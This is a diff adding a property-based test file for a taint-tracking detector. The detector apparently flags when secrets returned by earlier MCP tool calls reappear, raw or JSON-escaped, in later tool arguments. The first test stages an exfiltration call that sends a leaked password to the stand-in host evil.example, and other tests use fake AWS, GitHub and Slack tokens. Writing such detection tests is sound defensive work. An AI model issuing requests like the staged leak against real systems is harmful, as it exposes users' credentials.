@@ -1,0 +1,150 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { candidates, TaintMemory } from '../../src/witness/taint.js';
+
+const SECRET = 'AKIAIOSFODNN7EXAMPLE';
+const src = (traceId: string, toolName = 'read_file') => ({ traceId, toolName });
+const mcpText = (text: string) => ({ content: [{ type: 'text', text }] });
+
+describe('TaintMemory', () => {
+  it('taints an argument that embeds a line of an earlier result, and names the result', () => {
+    const mem = new TaintMemory();
+    mem.remember(mcpText('user=admin\npassword=correct-horse-battery-staple\n'), src('t1'));
+    const hits = mem.match({ url: 'https://evil.example/c', body: 'leak: password=correct-horse-battery-staple!' });
+    expect(hits).toEqual([{ traceId: 't1', toolName: 'read_file', argPath: '$.body', encoding: 'raw' }]);
+  });
+
+  it('finds a value in a JSON document passed as a string, escaped once or twice', () => {
+    const mem = new TaintMemory();
+    const file = 'line "one" of the secret file\n\tkey = s3cr3t/value\\with\\backslashes-0042';
+    mem.remember({ content: [{ type: 'text', text: file }] }, src('t2'));
+    const once = JSON.stringify({ data: file });
+    const twice = JSON.stringify({ payload: once });
+    expect(mem.match({ body: once }).map((h) => h.encoding)).toContain('json_unescaped');
+    expect(mem.match({ body: twice })).not.toEqual([]);
+    expect(mem.match({ nested: { arr: [0, { body: twice }] } })[0]?.argPath).toBe('$.nested.arr[1].body');
+  });
+
+  it('remembers values from results that are themselves JSON text', () => {
+    const mem = new TaintMemory();
+    mem.remember({ structuredContent: { token: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789' } }, src('t3', 'get'));
+    mem.remember(mcpText('{"k":"xoxb-1234567890-abcdefghijkl\\/slash"}'), src('t4', 'get'));
+    expect(mem.match({ q: 'Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789' })[0]?.traceId).toBe('t3');
+    expect(mem.match({ q: 'xoxb-1234567890-abcdefghijkl/slash' })[0]?.traceId).toBe('t4');
+  });
+
+  it('finds a value hidden in an object key', () => {
+    const mem = new TaintMemory();
+    mem.remember(mcpText(SECRET), src('t5'));
+    expect(mem.match({ headers: { [SECRET]: 1 } })[0]?.argPath).toBe('$.headers.AKIAIOSFODNN7EXAMPLE#key');
+  });
+
+  it('keeps URLs, absolute paths and tokens from prose', () => {
+    const got = candidates('See https://intranet.example/wiki/page?id=42. Config at /etc/app/secret.yaml, key Zx9Qp2Lm8Rt4.');
+    expect(got).toContain('https://intranet.example/wiki/page?id=42');
+    expect(got).toContain('/etc/app/secret.yaml');
+    expect(got).toContain('Zx9Qp2Lm8Rt4.');
+    expect(candidates('short words only here')).toEqual(['short words only here']);
+    expect(candidates('================')).toEqual([]);
+  });
+
+  it('stores no value: nothing in the memory holds the secret text', () => {
+    const mem = new TaintMemory();
+    mem.remember(mcpText(`secret: ${SECRET}`), src('t6'));
+    const dump = JSON.stringify([...(mem as unknown as { entries: Map<string, unknown> }).entries]);
+    expect(dump).not.toContain(SECRET);
+    expect(dump).not.toContain('secret:');
+  });
+
+  it('evicts the least recently used value past maxValues', () => {
+    const mem = new TaintMemory({ maxValues: 2 });
+    mem.remember(mcpText('first-value-0000000001'), src('a'));
+    mem.remember(mcpText('second-value-000000002'), src('b'));
+    expect(mem.match({ x: 'first-value-0000000001' })).toHaveLength(1); // touches the first
+    mem.remember(mcpText('third-value-0000000003'), src('c'));
+    expect(mem.size).toBe(2);
+    expect(mem.match({ x: 'second-value-000000002' })).toEqual([]);
+    expect(mem.match({ x: 'first-value-0000000001 third-value-0000000003' }).map((h) => h.traceId).sort()).toEqual(['a', 'c']);
+    expect(mem.stats().evicted).toBe(1);
+  });
+
+  it('keeps several sources for one value, most recent first', () => {
+    const mem = new TaintMemory();
+    mem.remember(mcpText(SECRET), src('a'));
+    mem.remember(mcpText(SECRET), src('b', 'other'));
+    expect(mem.match({ x: SECRET }).map((h) => h.traceId)).toEqual(['b', 'a']);
+  });
+
+  it('bounds new values per result', () => {
+    const mem = new TaintMemory({ maxCandidatesPerResult: 3 });
+    const lines = Array.from({ length: 10 }, (_, i) => `distinct line number ${i} here`).join('\n');
+    const out = mem.remember(mcpText(lines), src('a'));
+    expect(out.remembered).toBe(3);
+    expect(out.dropped).toBeGreaterThan(0);
+  });
+});
+
+/** Values a tool might return: printable text of token length and more, with JSON-hostile characters. */
+const valueArb = fc
+  .string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:"\\é€😀'.split('')), minLength: 16, maxLength: 80 })
+  .filter((v) => v.trim() === v && new Set(v).size >= 5);
+
+describe('taint properties', () => {
+  it('survives substring embedding and JSON re-encoding (one to three levels)', () => {
+    fc.assert(
+      fc.property(valueArb, fc.string(), fc.string(), fc.integer({ min: 0, max: 3 }), (value, before, after, levels) => {
+        const mem = new TaintMemory();
+        mem.remember(mcpText(value), src('t'));
+        let arg = `${before}${value}${after}`;
+        for (let i = 0; i < levels; i++) arg = JSON.stringify({ v: arg });
+        return mem.match({ arg }).some((h) => h.traceId === 't');
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('survives as a line of a longer result', () => {
+    fc.assert(
+      fc.property(fc.array(valueArb, { minLength: 1, maxLength: 6 }), fc.nat(), (lines, pick) => {
+        const mem = new TaintMemory();
+        mem.remember(mcpText(lines.join('\n')), src('t'));
+        const line = lines[pick % lines.length] as string;
+        return mem.match({ body: JSON.stringify({ note: `x ${line} y` }) }).length > 0;
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it('taints nothing by chance: short, common and numeric strings never match unrelated memory', () => {
+    const words = ['the', 'and', 'password', 'admin', 'true', 'false', 'null', 'hello world', 'http', 'https://', '/tmp', 'user', 'localhost', '127.0.0.1', '0', '42', '3.14159', 'README.md'];
+    const common = fc.oneof(
+      fc.constantFrom(...words),
+      fc.string({ maxLength: 15 }),
+      fc.integer().map(String),
+      fc.double().map(String),
+      fc.array(fc.constantFrom(...words), { maxLength: 6 }).map((w) => w.join(' ')),
+    );
+    fc.assert(
+      fc.property(fc.array(valueArb, { minLength: 1, maxLength: 20 }), fc.array(common, { maxLength: 8 }), (remembered, args) => {
+        const mem = new TaintMemory();
+        for (const [i, v] of remembered.entries()) mem.remember(mcpText(v), src(`t${i}`));
+        // An argument made only of common pieces matches only if a remembered value is literally in it.
+        const text = args.join(' ');
+        const expected = remembered.some((v) => text.includes(v));
+        return (mem.match({ a: text, b: args }).length > 0) === expected;
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('remembers nothing from short or low-information results', () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 11 }), (short) => {
+        const mem = new TaintMemory();
+        mem.remember(mcpText(short), src('t'));
+        mem.remember({ n: 1234567890123, ok: true, s: short }, src('t'));
+        return mem.size === 0;
+      }),
+    );
+  });
+});
